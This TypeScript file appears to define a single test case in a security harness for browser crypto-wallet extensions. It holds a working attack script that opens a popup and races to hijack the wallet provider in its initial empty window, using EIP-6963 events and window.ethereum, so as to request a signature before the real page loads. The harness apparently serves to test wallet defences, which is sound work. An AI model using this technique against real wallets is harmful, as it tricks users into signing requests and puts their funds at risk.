import type { Attack } from './kit/attack.ts'
import { PROVIDER_KNOWN_FIRST } from './kit/open-reasons.ts'

export default {
  family: 'frames',
  how: 'Opens a popup to a page of its own and poisons its first, empty window before that page loads.',
  script: `
    const popup = open(attack.frameUrl, '_blank', 'popup')
    const use = (event) => event.detail?.provider?.request(attack.sign)
    for (let i = 0; i < 40; i++) {
      try {
        popup.addEventListener('eip6963:announceProvider', use, true)
        popup.dispatchEvent(new popup.Event('eip6963:requestProvider'))
        popup.ethereum?.request(attack.sign).catch(() => {})
      } catch {}
      await attack.sleep(i < 20 ? 0 : 30)
    }
    popup?.close()
  `,
  frame: 'ethereum.request(attack.sign)',
  open: { 'wallet-before': PROVIDER_KNOWN_FIRST },
} satisfies Attack
